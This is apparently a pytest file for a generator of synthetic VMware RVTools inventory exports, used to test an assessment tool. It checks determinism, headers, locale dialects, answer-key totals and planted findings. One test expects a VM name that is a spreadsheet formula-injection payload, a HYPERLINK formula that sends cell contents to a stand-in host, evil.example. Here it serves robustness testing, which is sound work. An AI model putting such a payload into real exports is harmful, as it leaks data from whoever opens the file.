"""What is written: the same bytes, real headers, rows that agree with the key."""

import hashlib
import json
import zipfile

import openpyxl
import pytest

from assessments import synthesis
from assessments.synthesis import Shape, earlier, expected, generate, secrets, write, write_key
from tests.synthesis.exports import csv_rows


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("kind", synthesis.FORMATS)
def test_the_bytes_are_the_same_twice_and_differ_by_seed(kind, tmp_path):
    paths = [tmp_path / name for name in ("one", "two", "other")]
    for path, seed in zip(paths, (1, 1, 2), strict=True):
        write(generate(30, seed), path, kind)
    one, two, other = map(digest, paths)
    assert one == two
    assert one != other


@pytest.mark.parametrize("kind", synthesis.FORMATS)
def test_members_of_an_export_bear_no_date_of_today(kind, tmp_path):
    write(generate(5, 1), tmp_path / "estate", kind)
    with zipfile.ZipFile(tmp_path / "estate") as archive:
        assert {member.date_time[0] for member in archive.infolist()} <= {1980, 2026}
        if kind == "rvtools-xlsx":
            assert b"2026-01-01T00:00:00Z" in archive.read("docProps/core.xml")


def test_the_key_of_an_export_lies_beside_it_as_json(tmp_path):
    plan = generate(20, 1)
    write_key(plan, tmp_path / "estate.key.json", dialect="3.9")

    text = (tmp_path / "estate.key.json").read_text(encoding="utf-8")

    assert json.loads(text) == expected(plan, dialect="3.9")
    assert text.endswith("}\n")


def test_a_csv_export_has_the_official_headers_and_the_attributes(tmp_path):
    _, headers = csv_rows(generate(20, 1), tmp_path)
    assert tuple(headers) == tuple(synthesis.official())
    for sheet, official in synthesis.official().items():
        kept = tuple(column for column in headers[sheet] if column not in synthesis.ATTRIBUTES)
        assert kept == official
    place = headers["vInfo"].index("Annotation")
    assert headers["vInfo"][place + 1 : place + 5] == synthesis.ATTRIBUTES


def test_a_workbook_has_the_same_headers_and_typed_cells(tmp_path):
    plan = generate(20, 1)
    write(plan, tmp_path / "estate.xlsx", "rvtools-xlsx")
    _, headers = csv_rows(plan, tmp_path)
    book = openpyxl.load_workbook(tmp_path / "estate.xlsx", read_only=True)
    assert tuple(book.sheetnames) == tuple(headers)
    rows = book["vInfo"].iter_rows(values_only=True)
    assert next(rows) == headers["vInfo"]
    first = dict(zip(headers["vInfo"], next(rows), strict=False))
    assert first["Template"] in ("True", "False")
    assert type(first["CPUs"]) is int
    assert first["Change Version"].year in range(2018, 2027)
    book.close()


@pytest.mark.parametrize("vms", [20, 100])
def test_the_totals_of_the_key_equal_the_rows(vms, tmp_path):
    plan = generate(vms, 6)
    rows, _ = csv_rows(plan, tmp_path)
    templates = [row for row in rows["vInfo"] if row["Template"] == "True"]
    stored = {(row["VM ID"], row["Path"].partition("]")[0]) for row in rows["vDisk"]}
    got = {
        "vms": len(rows["vInfo"]) - len(templates),
        "templates": len(templates),
        "hosts": len({row["Host"] for row in rows["vHost"]}),
        "clusters": len({row["Name"] for row in rows["vCluster"]}),
        "datastores": len({row["Name"] for row in rows["vDatastore"]}),
        "portgroups": len({row["Port"] for row in rows["dvPort"]}),
        "vcenters": len({row["VI SDK UUID"] for row in rows["vInfo"]}),
        "edges_vm_host": sum(bool(row["Host"]) for row in rows["vInfo"]),
        "edges_vm_ds": len(stored),
        "edges_vm_pg": len(rows["vNetwork"]),
        "snapshots": len(rows["vSnapshot"]),
        "disks": len(rows["vDisk"]),
    }
    assert got == expected(plan)["_totals"]
    assert len(rows["vInfo"]) == vms


def test_rows_agree_with_the_key_where_a_cell_alone_tells(tmp_path):
    plan = generate(100, 7)
    rows, _ = csv_rows(plan, tmp_path)
    key = expected(plan)["expected"]
    judged = [r for r in rows["vInfo"] if (r["Template"], r["SRM Placeholder"]) == ("False",) * 2]

    def ids(column, value):
        return [row["VM ID"] for row in judged if row[column] == value]

    assert ids("Powerstate", "poweredOff") == key["VM-OFF"]["objects"]
    assert ids("EFI Secure boot", "False") == key["VM-NO-SECUREBOOT"]["objects"]
    assert ids("Powerstate", "suspended") == key["VM-SUSPENDED"]["objects"]
    names = [row["Port"] for row in rows["dvPort"] if row["Allow Promiscuous"] == "True"]
    assert names == key["NET-PROMISC"]["objects"]
    full = [row["Name"] for row in rows["vDatastore"] if int(row["Free %"]) < 10]
    assert full == key["DS-FULL"]["objects"]


def test_what_is_left_out_is_not_in_the_file(tmp_path):
    plan = generate(20, 1, without=("vHealth", "vInfo.EFI Secure boot", "vInfo.Owner"))
    _, headers = csv_rows(plan, tmp_path)
    assert "vHealth" not in headers
    assert "EFI Secure boot" not in headers["vInfo"]
    assert not [sheet for sheet, columns in headers.items() if "Owner" in columns]


def test_planted_secrets_are_in_the_file_and_in_the_list(tmp_path):
    plan = generate(60, 1, plant=("VM-SECRET-NOTE",))
    rows, _ = csv_rows(plan, tmp_path)
    keys = [row["Key"] for row in rows["vLicense"]]
    text = " ".join(row["Annotation"] for row in rows["vInfo"])
    listed = secrets(plan)
    assert set(keys) < set(listed)
    assert len(listed) == len(keys) + expected(plan)["expected"]["VM-SECRET-NOTE"]["count"]
    assert all(secret in text for secret in set(listed) - set(keys))


def test_hostile_names_and_lost_hosts_and_shared_names_are_written_as_they_are(tmp_path):
    plan = generate(100, 1, shape=Shape(hostile=True, managers=3))
    rows, _ = csv_rows(plan, tmp_path)
    written = [row["VM"] for row in rows["vInfo"]]
    assert '=HYPERLINK("http://evil.example/?x="&A1,"open")' in written
    assert "  leading spaces" in written
    assert len(set(written)) < len(written)
    known = {row["Host"] for row in rows["vHost"]}
    assert any(row["Host"] not in known for row in rows["vInfo"])
    assert len({row["VI SDK UUID"] for row in rows["vInfo"]}) == 3


def test_a_disconnected_host_has_names_only(tmp_path):
    plan = generate(40, 1, plant=("HOST-DISCONNECTED",))
    rows, _ = csv_rows(plan, tmp_path)
    (name, *_) = expected(plan)["expected"]["HOST-DISCONNECTED"]["objects"]
    (row,) = [row for row in rows["vHost"] if row["Host"] == name]
    assert row["ESX Version"] == row["# Cores"] == ""


def test_dialects_spell_numbers_dates_and_headers(tmp_path):
    plan = generate(20, 1)
    german, _ = csv_rows(plan, tmp_path, "german")
    assert german["vInfo"][0]["Boot retry delay"] == "10.000"
    assert german["vMetaData"][0]["xlsx creation datetime"] == "01.11.2026 08:00:00"
    assert german["vMetaData"][0]["RVTools major version"] == "4,7"
    grouped, _ = csv_rows(plan, tmp_path, "thousands")
    assert grouped["vInfo"][0]["Boot retry delay"] == "10,000"
    old, headers = csv_rows(plan, tmp_path, "3.9")
    assert "Provisioned MB" in headers["vInfo"]
    assert not {"vSource", "vMetaData"} & set(old)


def test_an_earlier_export_is_dated_earlier(tmp_path):
    rows, _ = csv_rows(earlier(generate(20, 1), 100), tmp_path)
    assert rows["vMetaData"][0]["xlsx creation datetime"] == "2026/07/24 08:00:00"


def test_an_unknown_format_is_refused(tmp_path):
    with pytest.raises(synthesis.BadPlan, match="rvtools-pdf"):
        write(generate(5, 1), tmp_path / "x", "rvtools-pdf")
